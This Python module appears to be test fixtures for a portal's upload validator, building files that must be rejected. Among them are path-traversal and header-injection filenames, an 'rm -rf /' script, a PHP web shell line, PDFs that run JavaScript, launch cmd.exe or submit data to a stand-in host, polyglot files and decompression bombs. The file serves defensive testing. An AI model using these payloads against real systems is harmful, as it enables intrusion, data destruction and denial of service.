"""Files that must not come in, made when they are needed: nothing here is kept as a binary.

Each sample names the refusal that it must meet. `EICAR` is the harmless text that every virus scanner calls a virus.
"""

import gzip
import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from nanchang_portal.sample import paper

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LIMIT_MB = 1


@dataclass(frozen=True)
class Sample:
    label: str
    name: str
    make: Callable[[], bytes]
    code: str


def pdf(*extra: bytes, catalog: bytes = b"", trailer: bytes = b"", content: bytes = b"") -> bytes:
    """A good PDF, with something added to its catalogue or trailer, or further objects from 6 on."""
    stream = content or b"BT ET"
    return paper.from_objects(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        *extra,
        trailer=trailer,
    )


def packed(dictionary: bytes, text: bytes) -> bytes:
    """A stream object whose text is packed."""
    body = zlib.compress(text)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(body), body)


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def pdf_with_a_hidden_object() -> bytes:
    """A stream that says it is 5 bytes long; the object behind them is real to a reader that believes it."""
    return pdf(b"<< /Length 5 >>\nstream\nhello\nendobj\n7 0 obj\n" + SCRIPT + b"\nendobj\nendstream")


def archive(*names: str, text: bytes = b"text") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name in names:
            zipped.writestr(name, text)
    return out.getvalue()


def pdf_and_archive() -> bytes:
    """A PDF whose last lines stand in the comment of a ZIP archive that follows its own first lines."""
    whole = pdf()
    body, tail = whole[:-30], whole[-30:]
    out = io.BytesIO(body)
    out.seek(len(body))
    with zipfile.ZipFile(out, "a") as zipped:
        zipped.writestr("payload.exe", b"MZ")
        zipped.comment = tail
    return out.getvalue()


def png(width: int = 40, height: int = 30, **changes: bytes) -> bytes:
    """A PNG with parts replaced: header, pixels, before (chunks ahead of the pixels), after."""
    header = changes.get(
        "header", width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    )
    pixels = changes.get("pixels") or zlib.compress((b"\0" + b"\x20" * 3 * width) * height)
    return (
        b"\x89PNG\r\n\x1a\n"
        + paper.chunk(b"IHDR", header)
        + changes.get("before", b"")
        + paper.chunk(b"IDAT", pixels)
        + paper.chunk(b"IEND")
        + changes.get("after", b"")
    )


def jpeg(
    width: int = 16, height: int = 16, *, segments: bytes = b"", after: bytes = b"", scan: bool = True
) -> bytes:
    """The skeleton of a JPEG: segments, frame, scan, end."""
    frame = b"\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    out = b"\xff\xd8" + segment(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0") + segments
    out += segment(0xDB, b"\0" + bytes([16] * 64)) + segment(0xC0, frame)
    out += segment(0xC4, b"\0\0\x01" + bytes(14) + b"\0" + b"\0" * 0)
    if scan:
        out += segment(0xDA, b"\x01\x01\0\0\x3f\0") + b"\x00\xff\x00\x12\xff\xd0\x34"
    return out + b"\xff\xd9" + after


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body


def macro_workbook() -> bytes:
    return archive("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

NAMES = [
    Sample("no name", "", pdf, "name_missing"),
    Sample("only dots", "...", pdf, "name_missing"),
    Sample("path upwards", "../../etc/passwd.pdf", pdf, "name_path"),
    Sample("path of Windows", "..\\..\\boot.pdf", pdf, "name_path"),
    Sample("absolute path", "/etc/cron.d/job.pdf", pdf, "name_path"),
    Sample("drive", "C:evil.pdf", pdf, "name_path"),
    Sample("NUL", "receipt.php\0.pdf", pdf, "name_control"),
    Sample("line break", "receipt\r\nSet-Cookie: a=b.pdf", pdf, "name_control"),
    Sample("invisible letter", "rece\u200bipt.pdf", pdf, "name_control"),
    Sample("escape sequence", "\x1b[2Jreceipt.pdf", pdf, "name_control"),
    Sample("right to left override", "receipt\u202efdp.exe", pdf, "name_direction"),
    Sample("right to left isolate", "receipt\u2067.pdf", pdf, "name_direction"),
    Sample("300 characters", "a" * 296 + ".pdf", pdf, "name_long"),
    Sample("300 Chinese characters", "证" * 296 + ".pdf", pdf, "name_long"),
    Sample("no ending", "receipt", pdf, "name_no_ending"),
    Sample("only an ending", ".pdf", pdf, "name_no_ending"),
    Sample("a program's ending", "receipt.exe", pdf, "name_ending"),
    Sample("a web page's ending", "receipt.html", pdf, "name_ending"),
    Sample("a drawing's ending", "receipt.svg", pdf, "name_ending"),
    Sample("a macro workbook's ending", "receipt.xlsm", pdf, "name_ending"),
    Sample("two endings, program last", "receipt.pdf.exe", pdf, "name_ending"),
    Sample("two endings, program first", "receipt.exe.pdf", pdf, "name_double"),
    Sample("two endings, page first", "receipt.html.png", png, "name_double"),
    Sample("two endings with a blank", "receipt.js .pdf", pdf, "name_double"),
]
SIZES = [
    Sample("0 bytes", "empty.pdf", bytes, "empty"),
    Sample("limit + 1", "big.pdf", lambda: b"%PDF-1.7\n" + bytes(LIMIT_MB * 1024 * 1024 - 8), "too_large"),
]
KINDS = [
    Sample("a program called PDF", "a.pdf", lambda: b"MZ" + bytes(200), "kind_differs"),
    Sample("a Linux program called PNG", "a.png", lambda: b"\x7fELF" + bytes(200), "kind_differs"),
    Sample("a web page called PDF", "a.pdf", lambda: PAGE, "kind_differs"),
    Sample("a web page called JPEG", "a.jpg", lambda: b"\xef\xbb\xbf \n" + PAGE, "kind_differs"),
    Sample(
        "a drawing called PNG", "a.png", lambda: b"<?xml version='1.0'?><svg onload='x()'/>", "kind_differs"
    ),
    Sample("an archive called PDF", "a.pdf", lambda: archive("a.txt"), "kind_differs"),
    Sample("a workbook called PDF", "a.pdf", lambda: archive("[Content_Types].xml"), "kind_differs"),
    Sample("a macro workbook called PDF", "a.pdf", macro_workbook, "kind_differs"),
    Sample("an old document called PDF", "a.pdf", lambda: OLE, "kind_differs"),
    Sample("an old macro document called PDF", "a.pdf", lambda: OLE + b"_VBA_PROJECT", "kind_differs"),
    Sample("a shell script called PDF", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "kind_differs"),
    Sample("a PHP script called PNG", "a.png", lambda: b"<?php system($_GET[0]);", "kind_differs"),
    Sample("packed text called PDF", "a.pdf", lambda: gzip.compress(b"text" * 99), "kind_differs"),
    Sample("a GIF called PNG", "a.png", lambda: b"GIF89a" + bytes(100), "kind_differs"),
    Sample("a GIF with a script called JPEG", "a.jpg", lambda: b"GIF89a/*<script>*/=1;", "kind_differs"),
    Sample("a PDF called PNG", "a.png", pdf, "kind_differs"),
    Sample("a PNG called PDF", "a.pdf", png, "kind_differs"),
    Sample("a PNG called JPEG", "a.jpg", png, "kind_differs"),
    Sample("a scanner's test text called PDF", "a.pdf", lambda: EICAR, "kind_differs"),
    Sample("noise called PDF", "a.pdf", lambda: bytes(range(256)) * 8, "kind_unknown"),
    Sample("zeros called JPEG", "a.jpg", lambda: bytes(5000), "kind_unknown"),
]
PDFS = [
    Sample("a PDF behind a web page", "a.pdf", lambda: PAGE + b"\n" + pdf(), "double_page"),
    Sample("a PDF behind other bytes", "a.pdf", lambda: b"GIF89a;" + pdf(), "pdf_header"),
    Sample(
        "a version that does not exist",
        "a.pdf",
        lambda: pdf().replace(b"%PDF-1.7", b"%PDF-9.9"),
        "pdf_header",
    ),
    Sample(
        "a web page in a comment", "a.pdf", lambda: pdf().replace(b"%\xe2", b"%" + PAGE, 1), "double_page"
    ),
    Sample("a web page after the end", "a.pdf", lambda: pdf() + PAGE, "double_page"),
    Sample("a program after the end", "a.pdf", lambda: pdf() + b"MZ" + bytes(99), "pdf_trailing"),
    Sample("an archive after the end", "a.pdf", lambda: pdf() + archive("a.exe"), "double_zip"),
    Sample("PDF and archive in one", "a.pdf", pdf_and_archive, "double_zip"),
    Sample("cut in the middle", "a.pdf", lambda: pdf()[:300], "pdf_cut"),
    Sample("no end mark", "a.pdf", lambda: pdf().replace(b"%%EOF", b""), "pdf_cut"),
    Sample("a stream that never ends", "a.pdf", lambda: pdf().replace(b"endstream", b"end"), "pdf_cut"),
    Sample("table elsewhere", "a.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), "pdf_table"),
    Sample("locked", "a.pdf", lambda: pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 >>"), "pdf_encrypted"),
    Sample("script at opening", "a.pdf", lambda: pdf(catalog=b"/OpenAction " + SCRIPT), "pdf_script"),
    Sample(
        "script with escaped letters",
        "a.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /J#61vaScript >>"),
        "pdf_script",
    ),
    Sample(
        "script in a packed object",
        "a.pdf",
        lambda: pdf(packed(b"/Type /ObjStm /N 1 /First 4", b"7 0 " + SCRIPT)),
        "pdf_script",
    ),
    Sample("script behind a short stream", "a.pdf", pdf_with_a_hidden_object, "pdf_script"),
    Sample(
        "starts a program",
        "a.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_launch",
    ),
    Sample(
        "opens another file",
        "a.pdf",
        lambda: pdf(b"<< /S /GoToR /F (\\\\\\\\host\\\\share) >>"),
        "pdf_launch",
    ),
    Sample(
        "files inside", "a.pdf", lambda: pdf(catalog=b"/Names << /EmbeddedFiles 6 0 R >>"), "pdf_embedded"
    ),
    Sample("a file as a note", "a.pdf", lambda: pdf(b"<< /Subtype /FileAttachment >>"), "pdf_embedded"),
    Sample("a film inside", "a.pdf", lambda: pdf(b"<< /Subtype /RichMedia >>"), "pdf_media"),
    Sample("a form of XFA", "a.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA 6 0 R >>"), "pdf_form"),
    Sample(
        "sends data away", "a.pdf", lambda: pdf(b"<< /S /SubmitForm /F (http://a.example) >>"), "pdf_form"
    ),
    Sample("no page", "a.pdf", lambda: pdf().replace(b"/Type /Page ", b"/Type /Pane "), "pdf_pages"),
    Sample(
        "a stream that unpacks to 130 MB",
        "a.pdf",
        lambda: pdf(packed(b"", bytes(130_000_000))),
        "pdf_unpacks",
    ),
    Sample(
        "objects that unpack to 33 MB",
        "a.pdf",
        lambda: pdf(packed(b"/Type /ObjStm", bytes(33_000_000))),
        "pdf_unpacks",
    ),
    Sample(
        "objects in an unusual coding",
        "a.pdf",
        lambda: pdf(
            b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] /Length 4 >>\nstream\n00>\nendstream"
        ),
        "pdf_coding",
    ),
    Sample(
        "objects that do not unpack",
        "a.pdf",
        lambda: pdf(b"<< /Type /ObjStm /Filter /FlateDecode /Length 4 >>\nstream\nnoise\nendstream"),
        "pdf_coding",
    ),
]
PICTURES = [
    Sample("50,000 x 50,000 pixels", "a.png", lambda: png(50_000, 50_000, pixels=b"x"), "image_pixels"),
    Sample("20,000 x 20,000 pixels", "a.png", lambda: png(20_000, 20_000, pixels=b"x"), "image_pixels"),
    Sample("4,294,967,295 pixels wide", "a.png", lambda: png(2**32 - 1, 1, pixels=b"x"), "image_pixels"),
    Sample("0 pixels", "a.png", lambda: png(0, 10, pixels=b"x"), "image_header"),
    Sample(
        "a depth that does not exist",
        "a.png",
        lambda: png(header=bytes(7) + b"\1\0\0\0\1\x07\x02\0\0\0"),
        "image_header",
    ),
    Sample("a wrong check sum", "a.png", lambda: png().replace(b"IDATx", b"IDATy", 1), "image_damaged"),
    Sample("PNG cut short", "a.png", lambda: png()[:-20], "image_cut"),
    Sample(
        "a part longer than the file", "a.png", lambda: png()[:-12] + b"\x7f\xff\xff\xffIDAT", "image_cut"
    ),
    Sample("fewer pixels than promised", "a.png", lambda: png(pixels=zlib.compress(bytes(9))), "image_cut"),
    Sample(
        "more pixels than promised",
        "a.png",
        lambda: png(pixels=zlib.compress(bytes(9_000_000))),
        "image_unpacks",
    ),
    Sample(
        "a text that unpacks to 9 MB",
        "a.png",
        lambda: png(before=paper.chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(9_000_000)))),
        "image_unpacks",
    ),
    Sample("animated", "a.png", lambda: png(before=paper.chunk(b"acTL", bytes(8))), "image_moves"),
    Sample(
        "a web page in a PNG", "a.png", lambda: png(before=paper.chunk(b"tEXt", b"a\0" + PAGE)), "image_text"
    ),
    Sample("a program after a PNG", "a.png", lambda: png(after=b"MZ" + bytes(50)), "image_trailing"),
    Sample("an archive after a PNG", "a.png", lambda: png(after=archive("a.exe")), "double_zip"),
    Sample("a PDF inside a PNG", "a.png", lambda: png(before=paper.chunk(b"prVt", pdf())), "double_pdf"),
    Sample("JPEG of 60,000 x 60,000", "a.jpg", lambda: jpeg(60_000, 60_000), "image_pixels"),
    Sample("JPEG without pixels", "a.jpg", lambda: jpeg(0, 9), "image_header"),
    Sample("JPEG cut short", "a.jpeg", lambda: jpeg()[:-4], "image_cut"),
    Sample("JPEG without a scan", "a.jpg", lambda: jpeg(scan=False), "image_damaged"),
    Sample("a script in a JPEG's comment", "a.jpg", lambda: jpeg(segments=segment(0xFE, PAGE)), "image_text"),
    Sample("a web page after a JPEG", "a.jpg", lambda: jpeg(after=PAGE), "double_page"),
    Sample("an archive after a JPEG", "a.jpg", lambda: jpeg(after=archive("a.exe")), "double_zip"),
    Sample("a second picture after a JPEG", "a.jpg", lambda: jpeg(after=jpeg()), "image_trailing"),
]
SAMPLES = [*NAMES, *SIZES, *KINDS, *PDFS, *PICTURES]
